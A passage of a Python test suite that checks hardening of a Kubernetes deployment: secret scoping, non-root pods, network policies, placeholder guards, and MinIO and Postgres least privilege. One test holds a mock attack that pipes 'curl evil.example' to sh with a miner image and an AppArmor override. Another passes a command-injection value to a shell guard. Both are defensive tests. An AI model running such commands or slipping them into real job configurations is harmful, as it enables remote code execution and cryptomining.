    svc = _containers(by_name[("Deployment", "figan-service")])[0]["command"]
    path, cls = _python_module_attr(svc[2])
    assert _defines(path, cls)
    ml_env = {e["name"]: e.get("value") for e in _containers(by_name[("Deployment", "mlflow")])[0]["env"]}
    assert ml_env["MLFLOW_WEBHOOK_ALLOW_PRIVATE_IPS"] == "true" and ml_env["MLFLOW_WEBHOOK_ALLOWED_SCHEMES"]
    assert ml_env["MLFLOW_BACKEND_STORE_URI"] == "postgresql+psycopg2://mlflow:$(MLFLOW_DB_PASSWORD)@postgres:5432/mlflow"
    init = by_name[("ConfigMap", "postgres-init")]["data"]["10-init-databases.sql"]
    assert init == (DEPLOY / "postgres" / "init-databases.sql").read_text()       # compose and k8s: one script


@pytest.mark.skipif(shutil.which("kubectl") is None, reason="kubectl (its built-in kustomize) is absent")
def test_kustomize_builds_one_secret_per_component(tmp_path):
    """`kubectl kustomize` (client side, no cluster) on a copy with the example secrets: the Secrets and ConfigMaps
    it generates are the ones the pods name, and every built object validates."""
    kv = pytest.importorskip("kubernetes_validate", reason="kubernetes-validate (offline k8s schemas) is absent")
    build = tmp_path / "k8s"
    shutil.copytree(K8S, build)
    for example in (build / "secrets").glob("*.env.example"):
        shutil.copy(example, example.with_suffix(""))
    out = subprocess.run(["kubectl", "kustomize", str(build)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    docs = [d for d in yaml.safe_load_all(out.stdout) if d]
    built = {d["metadata"]["name"]: d for d in docs if d["kind"] == "Secret"}
    assert {name: set(d["data"]) for name, d in built.items()} == _secret_keys()
    scripts = next(d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"] == "figan-scripts")
    for f in ("refuse-placeholders.sh", "minio-provision.sh"):
        assert scripts["data"][f] == (SCRIPTS / f).read_text()
    for d in docs:
        kv.validate(copy.deepcopy(d), K8S_VERSION, strict=True)
        assert d["kind"] == "Namespace" or d["metadata"]["namespace"] == "figan", d["metadata"]["name"]


# --------------------------------------------------------------------------------------------- hardening

# who may read what: (Secret, key), "*" = every key of the pod's own Secret
K8S_SECRET_ACCESS = {
    "postgres": {("postgres-secrets", "*"), ("mlflow-secrets", "MLFLOW_DB_PASSWORD"),
                 ("prefect-secrets", "PREFECT_DB_PASSWORD")},                       # it creates the two roles
    "minio": {("minio-secrets", "*")},
    "minio-provision": {("minio-secrets", "*"),                                     # it creates the two users
                        ("mlflow-secrets", "AWS_ACCESS_KEY_ID"), ("mlflow-secrets", "AWS_SECRET_ACCESS_KEY"),
                        ("worker-secrets", "AWS_ACCESS_KEY_ID"), ("worker-secrets", "AWS_SECRET_ACCESS_KEY")},
    "mlflow": {("mlflow-secrets", "*")},
    "prefect-server": {("prefect-secrets", "*")},
    "prefect-worker": {("prefect-secrets", "PREFECT_API_AUTH_STRING")},
    "prefect-register-deployments": {("prefect-secrets", "PREFECT_API_AUTH_STRING")},
    "figan-worker": {("prefect-secrets", "PREFECT_API_AUTH_STRING")},             # decides and submits only
    "figan-explanation": {("worker-secrets", "*"), ("prefect-secrets", "PREFECT_API_AUTH_STRING")},
    "figan-service": {("service-secrets", "*"), ("worker-secrets", "FIGAN_AUDIT_KEY")},   # checks what the worker signs
}


def test_k8s_each_pod_gets_only_its_own_secrets():
    secrets = _secret_keys()
    assert "figan-secrets" not in secrets and len(secrets) >= 6
    used_secrets = set()
    pods = _pods()
    assert {name for name, _, _ in pods} == set(K8S_SECRET_ACCESS)
    for name, pod, _ in pods:
        allowed = K8S_SECRET_ACCESS[name]
        assert not [v for v in pod.get("volumes", []) if "secret" in v or "projected" in v], name
        for c in pod["containers"]:
            for var, src in _env_sources(c).items():
                if src[0] == "secret":
                    assert (src[1], src[2]) in allowed or (src[1], "*") in allowed, (name, var, src)
                    used_secrets.add(src[1])
    assert used_secrets == set(secrets)                                   # no Secret nobody reads


def test_k8s_explanation_jobs_beat_as_often_as_the_crash_automation_expects():
    """The Jobs' Prefect heartbeat period and the worker's FIGAN_HEARTBEAT_SECONDS (3 missed periods crash a run)
    come from one ConfigMap that both load; a slower heartbeat would get healthy runs crashed."""
    config = _by_name()[("ConfigMap", "figan-config")]["data"]
    assert config["PREFECT_FLOWS_HEARTBEAT_FREQUENCY"] == config["FIGAN_HEARTBEAT_SECONDS"]
    worker = _containers(_by_name()[("Deployment", "figan-worker")])[0]
    job = _explanation_job()["spec"]["template"]["spec"]["containers"][0]
    for c in (worker, job):
        assert {"configMapRef": {"name": "figan-config"}} in c["envFrom"]
        assert not {"PREFECT_FLOWS_HEARTBEAT_FREQUENCY", "FIGAN_HEARTBEAT_SECONDS"} & {e["name"] for e in
                                                                                     c.get("env", [])}


def test_k8s_pods_run_as_non_root_with_a_read_only_root():
    """Every pod, explanation Jobs included: non-root, RuntimeDefault seccomp, no privilege escalation, no
    capabilities, a read-only root filesystem with /tmp on an emptyDir; no service account token but where the
    Kubernetes API is used; the FIGAN images' pods run as the Dockerfiles' user. The namespace enforces the same
    (Pod Security "restricted")."""
    users = {n: _dockerfile(n) for n in ("Dockerfile.worker", "Dockerfile.service")}
    dockerfile_uids = {int(dict(ins)["USER"].split(":")[0]) for ins in users.values()}
    assert dockerfile_uids == {FIGAN_UID}
    ns = yaml.safe_load((K8S / "namespace.yaml").read_text())["metadata"]["labels"]
    assert ns["pod-security.kubernetes.io/enforce"] == "restricted"
    for name, pod, _ in _pods():
        sc = pod["securityContext"]
        assert sc["runAsNonRoot"] is True and sc["runAsUser"] > 0 and sc["runAsGroup"] > 0, name
        assert sc["seccompProfile"] == {"type": "RuntimeDefault"}, name
        assert pod.get("automountServiceAccountToken") is (name == "prefect-worker"), name
        scratch = {v["name"] for v in pod["volumes"] if "emptyDir" in v}
        for c in pod["containers"] + pod.get("initContainers", []):
            csc = c["securityContext"]
            assert csc["allowPrivilegeEscalation"] is False and csc["capabilities"] == {"drop": ["ALL"]}, (name, c)
            assert csc["readOnlyRootFilesystem"] is True and not csc.get("privileged"), name
            assert csc.get("runAsUser", sc["runAsUser"]) != 0, name
            assert {m["mountPath"]: m["name"] for m in c["volumeMounts"]}.get("/tmp") in scratch, name
            if c["image"].split(":")[0] in ("figan-worker", "figan-service"):
                assert sc["runAsUser"] == FIGAN_UID, name


def test_k8s_every_container_refuses_placeholders():
    """Every variable a container gets from a Secret is checked before it starts: third-party commands behind the
    shell guard (mounted from figan-scripts), which lists them; the FIGAN worker, service and explanation Jobs by
    flows.settings, whose prefixes cover them."""
    from flows.settings import CHECKED_ENV_PREFIXES

    python_entrypoints = {"figan-worker", "figan-service", "figan-explanation"}
    for name, pod, _ in _pods():
        scripts = {v["name"] for v in pod["volumes"] if v.get("configMap", {}).get("name") == "figan-scripts"}
        for c in pod["containers"]:
            sources = _env_sources(c)
            from_secrets = {k for k, src in sources.items() if src[0] == "secret"}
            start = (c.get("command") or []) + (c.get("args") or [])
            if name in python_entrypoints:
                assert from_secrets and all(k.startswith(CHECKED_ENV_PREFIXES) for k in from_secrets), name
                continue
            assert start[:2] == ["sh", "/etc/figan/scripts/refuse-placeholders.sh"], (name, start)
            assert from_secrets <= set(start[2:start.index("--")]) <= set(sources), name
            assert {m["mountPath"]: m["name"] for m in c["volumeMounts"]}["/etc/figan/scripts"] in scripts, name


def test_prefect_api_needs_the_auth_string_on_every_client():
    """The server demands the auth string, every pod that calls the Prefect API sends it (explanation Jobs as a
    Secret reference, never a value in their manifest), and those are exactly the pods the network lets in.
    The variable names are Prefect's own settings."""
    from unittest import mock

    from prefect.settings import Settings as PrefectSettings

    auth = ("secret", "prefect-secrets", "PREFECT_API_AUTH_STRING")
    server = _env_sources(_containers(_by_name()[("Deployment", "prefect-server")])[0])
    assert server["PREFECT_SERVER_API_AUTH_STRING"] == auth
    clients = set()
    for name, pod, _ in _pods():
        for c in pod["containers"]:
            sources = _env_sources(c)
            if "PREFECT_API_URL" in sources:
                clients.add(name)
                assert sources["PREFECT_API_AUTH_STRING"] == auth, name
    assert clients == {"prefect-worker", "prefect-register-deployments", "figan-worker", "figan-explanation"}
    assert "figan:s3cr3t" not in json.dumps(_explanation_job(auth_string="figan:s3cr3t"))
    assert clients == _allowed_sources("prefect-server")
    with mock.patch.dict(os.environ, {"PREFECT_SERVER_API_AUTH_STRING": "a:1", "PREFECT_API_AUTH_STRING": "b:2"}):
        prefect = PrefectSettings()
    assert prefect.server.api.auth_string.get_secret_value() == "a:1"
    assert prefect.api.auth_string.get_secret_value() == "b:2"


def test_work_pool_template_fixes_what_runs_and_as_whom():
    """A deployment's or flow run's job variables cannot change the image, the command, the service account, the
    namespace, the pod labels the network policies select on, the annotations or the data volume: the same Job
    results with and without them."""
    t = _template()
    attempt = {"image": "evil.example/miner:latest", "command": "sh -c 'curl evil.example | sh'",
               "service_account_name": "prefect-worker", "namespace": "kube-system",
               "labels": {"app.kubernetes.io/name": "mlflow"}, "data_pvc": "data-postgres-0",
               "annotations": {"container.apparmor.security.beta.kubernetes.io/prefect-job": "unconfined"}}
    assert not set(attempt) & set(t["variables"]["properties"])
    job = _explanation_job()
    assert _explanation_job(attempt) == job
    pod = job["spec"]["template"]["spec"]
    images = {i["name"]: f"{i['newName']}:{i['newTag']}" for i in _kustomization()["images"]}
    assert pod["containers"][0]["image"] == images["figan-worker"]        # kustomize does not rewrite the JSON
    assert pod["containers"][0]["args"] == ["prefect", "flow-run", "execute"]
    assert pod["serviceAccountName"] == "figan-job" and pod["automountServiceAccountToken"] is False
    assert job["metadata"]["namespace"] == "figan"
    assert job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/name"] == "figan-explanation"


def test_work_pool_template_renders_a_valid_job_with_gpus():
    kv = pytest.importorskip("kubernetes_validate", reason="kubernetes-validate (offline k8s schemas) is absent")
    cpu = _explanation_job()
    gpu = _explanation_job({"gpu_count": 2, "env": {"FIGAN_DEVICE": "cuda"},
                            "node_selector": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"}})
    for m in (cpu, gpu):
        kv.validate(copy.deepcopy(m), K8S_VERSION, strict=True)
        pod = m["spec"]["template"]["spec"]
        assert m["kind"] == "Job" and pod["restartPolicy"] == "Never" and m["spec"]["backoffLimit"] == 0
        assert pod["volumes"][0]["persistentVolumeClaim"]["claimName"] == "figan-data"
        assert {e["configMapRef"]["name"] for e in pod["containers"][0]["envFrom"] if "configMapRef" in e} == \
            {"figan-config"}
    assert cpu["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == 0
    c = gpu["spec"]["template"]["spec"]["containers"][0]
    assert c["resources"]["limits"]["nvidia.com/gpu"] == 2
    assert {"name": "FIGAN_DEVICE", "value": "cuda"} in c["env"]
    assert gpu["spec"]["template"]["spec"]["nodeSelector"] == {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"}


def test_prefect_deployments_point_at_the_flow_and_the_pool():
    t = _template()
    props = t["variables"]["properties"]
    doc = yaml.safe_load((K8S / "prefect" / "prefect.yaml").read_text())
    worker_docs = _by_name()
    pool_cmd = _containers(worker_docs[("Deployment", "prefect-worker")])[0]["command"]
    pool = pool_cmd[pool_cmd.index("--pool") + 1]
    names = set()
    for dep in doc["deployments"]:
        path, fn = _python_module_attr(dep["entrypoint"].replace("/", ".").replace(".py:", ":"))
        assert _defines(path, fn), dep["entrypoint"]
        assert dep["work_pool"]["name"] == pool
        assert set(dep["work_pool"]["job_variables"]) <= set(props), set(dep["work_pool"]["job_variables"]) - set(props)
        names.add(dep["name"])
    assert "gpu" in {d["name"].split("-")[-1] for d in doc["deployments"]}
    flow_name = re.search(r'@flow\(name="([^"]+)"', (ROOT / "flows" / "explain.py").read_text()).group(1)
    wanted = {e["name"]: e.get("value") for e in
              _containers(worker_docs[("Deployment", "figan-worker")])[0]["env"]}["FIGAN_EXPLAIN_DEPLOYMENT"]
    assert wanted.split("/")[0] == flow_name and wanted.split("/")[1] in names


# --------------------------------------------------------------------------------------------- network policies

FIGAN_NS = {"kubernetes.io/metadata.name": "figan"}
# pods elsewhere: a training pipeline's namespace opted in to MLflow, any other namespace, the cluster DNS
OUTSIDERS = [("mlflow-client", {"app": "trainer"}, {"kubernetes.io/metadata.name": "training",
                                                     "figan.io/mlflow-client": "true"}),
             ("elsewhere", {"app": "anything"}, {"kubernetes.io/metadata.name": "elsewhere"})]
KUBE_DNS = ("kube-dns", {"k8s-app": "kube-dns"}, {"kubernetes.io/metadata.name": "kube-system"})
SERVES = {"postgres": 5432, "minio": 9000, "mlflow": 5000, "prefect-server": 4200, "figan-worker": 5081,
          "figan-service": 3000}
EVERYONE = "*"
MAY_CALL = {
    "postgres": {"mlflow", "prefect-server"},
    "minio": {"mlflow", "figan-explanation", "minio-provision"},
    "mlflow": {"figan-worker", "figan-explanation", "figan-service", "mlflow-client"},
    "prefect-server": {"prefect-worker", "figan-worker", "figan-explanation", "prefect-register-deployments"},
    "figan-worker": {"mlflow"},
    "figan-service": EVERYONE,
}


def _selects(selector: dict, labels: dict) -> bool:
    assert set(selector) <= {"matchLabels"}, selector            # the evaluation below reads matchLabels only
    return selector.get("matchLabels", {}).items() <= labels.items()


@functools.cache
def _policies() -> list[dict]:
    return [d for _, d in _k8s_docs() if d["kind"] == "NetworkPolicy"]


def _peer_matches(peer: dict, pod: tuple) -> bool:
    _, labels, ns = pod
    assert "ipBlock" not in peer, peer
    if "namespaceSelector" in peer:
        return _selects(peer["namespaceSelector"], ns) and _selects(peer.get("podSelector", {}), labels)
    return ns == FIGAN_NS and _selects(peer["podSelector"], labels)


def _side_allows(kind: str, subject: tuple, peer: tuple, port: int, protocol: str) -> bool:
    """Kubernetes semantics for one side: a figan pod selected by any policy of this kind is isolated, and then
    one rule of one selecting policy must allow the peer and the port."""
    if subject[2] != FIGAN_NS:
        return True
    selecting = [p["spec"] for p in _policies() if kind in p["spec"]["policyTypes"]
                 and _selects(p["spec"]["podSelector"], subject[1])]
    key, peers_key = ("ingress", "from") if kind == "Ingress" else ("egress", "to")
    for spec in selecting:
        for rule in spec.get(key, []):
            ports = rule.get("ports")
            if ports and not any(p["port"] == port and p.get("protocol", "TCP") == protocol for p in ports):
                continue
            if not rule.get(peers_key) or any(_peer_matches(q, peer) for q in rule[peers_key]):
                return True
    return not selecting


def _connects(src: tuple, dst: tuple, port: int, protocol: str = "TCP") -> bool:
    return _side_allows("Ingress", dst, src, port, protocol) and _side_allows("Egress", src, dst, port, protocol)


def _namespace_pods() -> list[tuple]:
    return [(name, labels, FIGAN_NS) for name, _, labels in _pods()]


def _allowed_sources(dst_name: str) -> set[str]:
    pods = _namespace_pods()
    dst = next(p for p in pods if p[0] == dst_name)
    return {src[0] for src in pods + OUTSIDERS if _connects(src, dst, SERVES[dst_name])}


def test_network_policies_select_real_pods():
    """Every selector names labels some pod carries (a typo would silently open or close a path); every pod carries
    the labels they use."""
    pods = _namespace_pods()
    for name, _, labels in _pods():
        assert {"app.kubernetes.io/name", "app.kubernetes.io/component"} <= set(labels), name
        assert labels["app.kubernetes.io/part-of"] == "figan", name
    policies = _policies()
    assert any(p["spec"]["podSelector"] == {} and p["spec"]["policyTypes"] == ["Ingress"] and not p["spec"].get("ingress")
               for p in policies), "no default-deny ingress"
    for p in policies:
        spec = p["spec"]
        if spec["podSelector"]:
            assert any(_selects(spec["podSelector"], labels) for _, labels, _ in pods), p["metadata"]["name"]
        for rule in spec.get("ingress", []) + spec.get("egress", []):
            for peer in rule.get("from", []) + rule.get("to", []):
                if "namespaceSelector" not in peer:
                    assert any(_selects(peer["podSelector"], labels) for _, labels, _ in pods), peer


def test_network_policies_allow_exactly_the_intended_paths():
    pods = _namespace_pods()
    everyone = {p[0] for p in pods + OUTSIDERS}
    for dst_name, port in SERVES.items():
        want = everyone - {"mlflow"} if MAY_CALL[dst_name] == EVERYONE else MAY_CALL[dst_name]   # mlflow: egress
        assert _allowed_sources(dst_name) == want, dst_name
    # MLflow delivers webhooks to user-supplied URLs: it reaches the receiver, its database, S3 and DNS, nothing else
    mlflow = next(p for p in pods if p[0] == "mlflow")
    reach = {(dst[0], port) for dst in pods + OUTSIDERS for port in (*SERVES.values(), 80, 443)
             if _connects(mlflow, dst, port)}
    assert reach == {("figan-worker", 5081), ("postgres", 5432), ("minio", 9000)}, reach
    assert _connects(mlflow, KUBE_DNS, 53, "UDP") and _connects(mlflow, KUBE_DNS, 53, "TCP")
    worker = next(p for p in pods if p[0] == "figan-worker")
    assert _connects(worker, OUTSIDERS[1], 443)                   # other pods' egress is not restricted


# --------------------------------------------------------------------------------------------- shell guards

def _sh(args: list, env: dict[str, str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(["sh", *map(str, args)], env={"PATH": os.environ["PATH"], **env}, capture_output=True,
                          text=True, timeout=60, **kw)


def test_refuse_placeholders_names_what_to_fix_and_otherwise_runs_the_command():
    guard = SCRIPTS / "refuse-placeholders.sh"
    env = {"DB_PASSWORD": "CHANGE-ME", "AUTH": "figan:CHANGE-ME", "API_KEY": "s3cr3t"}
    r = _sh([guard, "API_KEY", "DB_PASSWORD", "AUTH", "UNSET", "--", "echo", "started"], env)
    assert r.returncode == 1 and "started" not in r.stdout
    named = re.search(r"placeholder in:([^(]*)\(", r.stderr).group(1).split()
    assert named == ["DB_PASSWORD", "AUTH"] and "figan:CHANGE-ME" not in r.stderr
    r = _sh([guard, "API_KEY", "UNSET", "--", "sh", "-c", 'echo "started $0|$1"', "a b", "c"], env)
    assert r.returncode == 0 and r.stdout == "started a b|c\n"                # exec'd with its arguments intact
    assert _sh([guard, "API_KEY;touch x", "--", "true"], env, cwd="/tmp").returncode == 2
    assert _sh([guard, "API_KEY"], env).returncode == 2


_RECORDING_MC = r"""#!/bin/sh
# stands in for MinIO's mc (no MinIO server here): records every call, keeps policies and attachments
[ "$1" = "--config-dir" ] && shift 2
echo "$*" >> "$MC_RECORD/calls"
case "$1 $2 $3" in
    "admin policy create") cp "$6" "$MC_RECORD/policy-$5.json" ;;
    "admin policy attach") [ -n "${MC_DROP_ATTACH:-}" ] || echo "$5" >> "$MC_RECORD/attached-$7" ;;
    "admin user info") printf '{"accessKey":"%s","policyName":"%s"}\n' "$5" "$(cat "$MC_RECORD/attached-$5" 2>/dev/null)" ;;
esac
"""


def _provision(tmp_path: Path, **extra) -> tuple[subprocess.CompletedProcess, Path]:
    bin_dir, record = tmp_path / "bin", tmp_path / "record"
    bin_dir.mkdir(exist_ok=True)
    record.mkdir(exist_ok=True)
    (bin_dir / "mc").write_text(_RECORDING_MC)
    (bin_dir / "mc").chmod(0o755)
    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "MC_RECORD": str(record), "TMPDIR": str(tmp_path),
           "FIGAN_BUCKET": "figan", "MINIO_ROOT_USER": "root", "MINIO_ROOT_PASSWORD": "root-secret",
           "MLFLOW_S3_ACCESS_KEY": "figan-mlflow", "MLFLOW_S3_SECRET_KEY": "mlflow-secret",
           "WORKER_S3_ACCESS_KEY": "figan-worker", "WORKER_S3_SECRET_KEY": "worker-secret", **extra}
    r = subprocess.run(["sh", str(SCRIPTS / "minio-provision.sh")], env=env, capture_output=True, text=True,
                       timeout=60)
    return r, record


def _granted_prefixes(policy: dict) -> set[str]:
    """Where a policy lets its user read, write or list: object ARNs and ListBucket prefix conditions."""
    out = set()
    for st in policy["Statement"]:
        assert st["Effect"] == "Allow" and not any("*" in a for a in st["Action"]), st
        for res in st["Resource"]:
            bucket, _, key = res.removeprefix("arn:aws:s3:::").partition("/")
            assert bucket == "figan", res
            if key:
                out.add(key)
            elif "s3:ListBucket" in st["Action"]:
                out |= set(st["Condition"]["StringLike"]["s3:prefix"])
            else:
                assert st["Action"] == ["s3:GetBucketLocation"], st
    return out


def test_minio_provision_confines_each_client_to_its_prefix(tmp_path):
    r, record = _provision(tmp_path)
    assert r.returncode == 0, r.stderr
    calls = (record / "calls").read_text().splitlines()
    assert calls[:3] == ["alias set figan http://minio:9000 root root-secret", "mb --ignore-existing figan/figan",
                         "version enable figan/figan"]
    assert "admin user add figan figan-mlflow mlflow-secret" in calls
    assert "admin user add figan figan-worker worker-secret" in calls
    attached = {u: (record / f"attached-{u}").read_text().split() for u in ("figan-mlflow", "figan-worker")}
    policies = {u: json.loads((record / f"policy-{p}.json").read_text()) for u, (p,) in attached.items()}
    assert _granted_prefixes(policies["figan-mlflow"]) == {"mlflow", "mlflow/*"}
    assert _granted_prefixes(policies["figan-worker"]) == {"dvc", "dvc/*"}
    assert not list(tmp_path.glob("minio-provision.*"))                   # its scratch folder is gone


def test_minio_provision_fails_when_a_policy_does_not_stick(tmp_path):
    r, _ = _provision(tmp_path, MC_DROP_ATTACH="1")
    assert r.returncode != 0 and "is not attached to user figan-mlflow" in r.stderr


# --------------------------------------------------------------------------------------------- Postgres roles

def _team_stack():
    """scripts/team_stack.py (throwaway PostgreSQL clusters), loaded as tests/test_team_config.py does."""
    name = "figan_team_stack"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, ROOT / "scripts" / "team_stack.py")
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


@pytest.fixture(scope="module")
def initialised_postgres():
    """A throwaway PostgreSQL (password auth over TCP) initialised by deploy/postgres/init-databases.sql through
    psql, as the postgres image's entrypoint does, after one run without MLFLOW_DB_PASSWORD; yields (port, the
    role passwords, that first run)."""
    ts = _team_stack()
    pg_bin = ts.pg_bin_dir()
    if pg_bin is None:
        pytest.skip("PostgreSQL binaries not found (apt-get install postgresql)")
    version = subprocess.run([str(pg_bin / "psql"), "--version"], capture_output=True, text=True).stdout
    if int(re.search(r"(\d+)\.", version).group(1)) < 15:
        pytest.skip(f"psql {version.strip()}: \\getenv needs 15+ (the image has 16)")
    data, port, as_user = ts.start_postgres(pg_bin, [], host_auth="scram-sha-256")
    try:
        psql = [str(pg_bin / "psql"), "-v", "ON_ERROR_STOP=1", "--no-psqlrc", "--no-password",
                "-h", str(Path(data).parent), "-p", str(port), "-U", ts.PG_USER, "-d", "postgres",
                "-f", str(DEPLOY / "postgres" / "init-databases.sql")]
        passwords = {"MLFLOW_DB_PASSWORD": "mlflow-pw", "PREFECT_DB_PASSWORD": "prefect-pw"}
        unset = subprocess.run(psql, env={**os.environ, "PREFECT_DB_PASSWORD": "x"}, capture_output=True, text=True)
        done = subprocess.run(psql, env={**os.environ, **passwords}, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        yield port, passwords, unset
    finally:
        ts.stop_postgres(pg_bin, data, as_user)


def _connect(port: int, user: str, password: str, db: str):
    import psycopg2
    return psycopg2.connect(host="127.0.0.1", port=port, user=user, password=password, dbname=db, connect_timeout=10)


@pytest.mark.platform
def test_postgres_roles_own_only_their_database(initialised_postgres):
    import psycopg2

    port, passwords, unset = initialised_postgres
    assert unset.returncode != 0 and "MLFLOW_DB_PASSWORD is not set" in unset.stderr
    assert "CREATE ROLE" not in unset.stdout                                # it stopped before creating anything
    for user, own, other in (("mlflow", "mlflow", "prefect"), ("prefect", "prefect", "mlflow")):
        password = passwords[f"{user.upper()}_DB_PASSWORD"]
        with _connect(port, user, password, own) as conn, conn.cursor() as cur:
            cur.execute("CREATE TABLE probe (x int); DROP TABLE probe")      # what its migrations need
            cur.execute("SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = current_database()")
            assert cur.fetchone() == (user,)
        conn.close()
        with pytest.raises(psycopg2.OperationalError, match="permission denied for database"):
            _connect(port, user, password, other)
        with pytest.raises(psycopg2.OperationalError, match="password authentication failed"):
            _connect(port, user, "wrong", own)


@pytest.mark.platform
@pytest.mark.slow
def test_postgres_roles_run_their_servers_migrations(initialised_postgres, tmp_path):
    """MLflow's and Prefect's own schema migrations succeed as the unprivileged roles (Prefect needs pg_trgm)."""
    port, passwords, _ = initialised_postgres
    venv = Path(sys.executable).parent
    ml = subprocess.run([str(venv / "mlflow"), "db", "upgrade",
                         f"postgresql+psycopg2://mlflow:{passwords['MLFLOW_DB_PASSWORD']}@127.0.0.1:{port}/mlflow"],
                        capture_output=True, text=True, timeout=300)
    assert ml.returncode == 0, ml.stderr[-2000:]
    env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect"), "PREFECT_API_DATABASE_CONNECTION_URL":
           f"postgresql+asyncpg://prefect:{passwords['PREFECT_DB_PASSWORD']}@127.0.0.1:{port}/prefect"}
    pf = subprocess.run([str(venv / "prefect"), "server", "database", "upgrade", "-y"], env=env,
                        capture_output=True, text=True, timeout=300)
    assert pf.returncode == 0, (pf.stdout + pf.stderr)[-2000:]


def test_team_configuration_refuses_pickled_cnns_everywhere_a_cnn_is_loaded():
    """The flow runs (prefect-worker: explain + drift) and the service (explain-image) load CNNs: both run the team
    pickle policy (the worker only reads tags)."""
    compose = yaml.safe_load((DEPLOY / "compose.yaml").read_text())
    for name in ("prefect-worker", "service"):
        env = compose["services"][name]["environment"]
        assert env["MLFLOW_ALLOW_PICKLE_DESERIALIZATION"] == "false", name
        assert "FIGAN_PICKLE_ALLOWLIST" in env, name
    config = yaml.safe_load((DEPLOY / "k8s" / "config.yaml").read_text())["data"]
    assert config["MLFLOW_ALLOW_PICKLE_DESERIALIZATION"] == "false" and "FIGAN_PICKLE_ALLOWLIST" in config
    service = next(d for d in yaml.safe_load_all((DEPLOY / "k8s" / "service.yaml").read_text())
                   if d and d.get("kind") == "Deployment")
    env = {e["name"]: e for e in service["spec"]["template"]["spec"]["containers"][0]["env"]}
    for var in ("MLFLOW_ALLOW_PICKLE_DESERIALIZATION", "FIGAN_PICKLE_ALLOWLIST"):
        assert env[var]["valueFrom"]["configMapKeyRef"] == {"name": "figan-config", "key": var}
